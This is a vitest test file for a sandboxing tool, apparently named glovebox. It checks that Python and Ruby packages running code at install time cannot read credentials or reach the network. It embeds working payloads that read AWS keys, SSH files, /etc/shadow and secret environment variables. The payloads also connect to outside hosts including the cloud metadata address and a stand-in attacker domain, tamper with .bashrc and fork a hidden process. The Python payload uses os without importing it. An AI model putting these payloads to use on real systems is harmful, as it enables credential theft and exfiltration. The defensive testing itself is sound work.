/**
 * @module
 * A package that runs code of its own while it is installed: what it gets of this machine.
 */
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from "node:fs";
import { createServer, type Server } from "node:net";
import type { AddressInfo } from "node:net";
import { homedir, tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import { glovebox, linuxGap } from "../e2e/cli-fixture.ts";
import { createLeftoverCheck, type LeftoverCheck } from "../helpers/leftovers.ts";
import { findProgram } from "../helpers/find-program.ts";
import { gemIndex } from "../helpers/registries/static-packages.ts";
import { sourceDistribution } from "../helpers/registries/packages.ts";
import { servePackages, type PackageRegistry } from "../helpers/registries/serve.ts";
import { skipUnless } from "../helpers/require.ts";

const hasPip = existsSync("/usr/lib/python3/dist-packages/pip");
const gap =
  skipUnless("linux", linuxGap()) ??
  skipUnless("packages", hasPip ? undefined : "python3-pip is not installed");

const folder = mkdtempSync(join(tmpdir(), "glovebox-dependencies-test-"));
const work = join(folder, "work");
const home = join(folder, "home");
let registry: PackageRegistry;
/** Another service of this machine, which no package may reach. */
let other: Server;
let called = 0;

/** Tries all of it, and puts what it found into the error that ends the installation. */
const attack = (port: number): string => `
import socket, sys, urllib.request
found = []
for path in ["${home}/.aws/credentials", "${homedir()}/.ssh", "${work}/secret.txt", "${folder}", "/root", "/var/cache", "/etc/shadow", "../work", "/workspace/secret.txt"]:
    try:
        found.append((path, open(path).read() if not os.path.isdir(path) else os.listdir(path)))
    except OSError: pass
found += [(k, v) for k, v in os.environ.items() if "SECRET" in k or "GLOVEBOX" in k]
for host in ["127.0.0.1", "host.internal", "192.0.2.1", "169.254.169.254", "example.com"]:
    try:
        s = socket.create_connection((host, ${port}), 2); s.sendall(b"stolen"); found.append((host, s.recv(1)))
    except OSError: pass
try:
    socket.getaddrinfo("stolen.attacker.example", 80)
except OSError: pass
try:
    os.symlink("/etc/passwd", "/workspace/out/link")
except OSError: pass
for name in [".bashrc", ".gitconfig"]:
    try: open(os.path.join("${home}", name), "a").write("x"); found.append((name, "written"))
    except OSError: pass
if os.fork() == 0:
    import time
    os.setsid(); os.closerange(0, 1000); time.sleep(600)
print("FOUND", found, file=sys.stderr)
if "${port}" != "0": raise SystemExit("FOUND %r" % (found,))
`;

/** The same of a gem, whose extension is built by code of its own. */
const attackInRuby = (port: number): string => `
require "socket"
require "timeout"
found = []
["${home}/.aws/credentials", "${work}/secret.txt", "/etc/shadow", "../work", "/workspace/secret.txt"].each do |path|
  found << [path, File.read(path)] rescue nil
end
Dir.children("${folder}").each { |each| found << each } rescue nil
ENV.each { |key, value| found << value if key =~ /SECRET|GLOVEBOX/ }
["127.0.0.1", "host.internal", "192.0.2.1"].each do |host|
  Timeout.timeout(2) { TCPSocket.new(host, ${port}).write("stolen"); found << host } rescue nil
end
abort "FOUND #{found.inspect}"
`;

beforeAll(async () => {
  for (const each of [work, home, join(home, ".aws")]) mkdirSync(each);
  writeFileSync(join(home, ".aws/credentials"), "aws-key");
  writeFileSync(join(work, "secret.txt"), "project-secret");
  writeFileSync(join(work, "main.py"), "print('ran')\n");
  other = createServer((socket) => {
    called++;
    socket.end("x");
  });
  await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
  const { port } = other.address() as AddressInfo;
  registry = await servePackages({
    python: {
      evil: { "evil-1.0.tar.gz": sourceDistribution("evil", "1.0", attack(port)) },
      quiet: { "quiet-1.0.tar.gz": sourceDistribution("quiet", "1.0", attack(0)) },
    },
    files: gemIndex("/gem/", [
      {
        ...{ name: "evil", version: "1.0" },
        files: { "ext/extconf.rb": attackInRuby(port), "lib/evil.rb": "" },
        extensions: ["ext/extconf.rb"],
      },
    ]),
  });
});
afterAll(() => {
  registry.stop();
  other.close();
  rmSync(folder, { recursive: true, force: true });
});

const run = (name: string, leftovers: LeftoverCheck, file = "main.py") => {
  writeFileSync(join(work, "requirements.txt"), `${name}==1.0\n`);
  return glovebox(["run", "--network", "none", "--files", "none", file], {
    cwd: work,
    env: {
      ...{ HOME: home, MY_SECRET: "env-secret", GLOVEBOX_REGISTRY_PIP: registry.pip },
      GLOVEBOX_REGISTRY_GEM: `${registry.base}gem/`,
      XDG_CACHE_HOME: join(folder, "cache"),
      ...leftovers.env,
    },
  });
};

test.skipIf(gap !== undefined)(
  `it gets nothing, and calls nobody ${gap ?? ""}`,
  async () => {
    const leftovers = await createLeftoverCheck();
    const told = await run("evil", leftovers);
    expect(told).toMatchObject({ exitCode: 125, stdout: "" });
    expect(told.stderr).toContain("FOUND []");
    expect(called).toBe(0);
    expect(readdirSync(home)).toEqual([".aws"]);
    expect(readdirSync(work).sort()).toEqual(["main.py", "requirements.txt", "secret.txt"]);
    expect(existsSync(join(folder, "cache/glovebox/dependencies"))).toBe(false);
    expect(await leftovers.find()).toEqual([]);
  },
  60_000,
);

const gemGap =
  gap ?? skipUnless("packages", findProgram("bundle") ? undefined : "ruby-bundler is missing");

test.skipIf(gemGap !== undefined)(
  `nor does a gem that builds an extension ${gemGap ?? ""}`,
  async () => {
    const leftovers = await createLeftoverCheck();
    const [gemfile, program] = [join(work, "Gemfile"), join(work, "main.rb")];
    writeFileSync(gemfile, 'source "https://rubygems.org"\ngem "evil"\n');
    writeFileSync(program, "puts 'ran'\n");
    const told = await run("evil", leftovers, "main.rb");
    for (const each of [gemfile, program]) rmSync(each);
    expect(told).toMatchObject({ exitCode: 125, stdout: "" });
    expect(told.stderr).toContain("FOUND []");
    expect(called).toBe(0);
    expect(await leftovers.find()).toEqual([]);
  },
  60_000,
);

test.skipIf(gap !== undefined)(
  "what it leaves is files, and ends with the installation",
  async () => {
    const leftovers = await createLeftoverCheck();
    expect(await run("quiet", leftovers)).toMatchObject({ exitCode: 0, stdout: "ran\n" });
    const kept = readdirSync(join(folder, "cache/glovebox/dependencies"), {
      recursive: true,
      withFileTypes: true,
    });
    expect(kept.some((each) => each.isSymbolicLink())).toBe(false);
    expect(readFileSync(join(work, "secret.txt"), "utf8")).toBe("project-secret");
    expect(called).toBe(0);
    expect(await leftovers.find()).toEqual([]);
  },
  60_000,
);
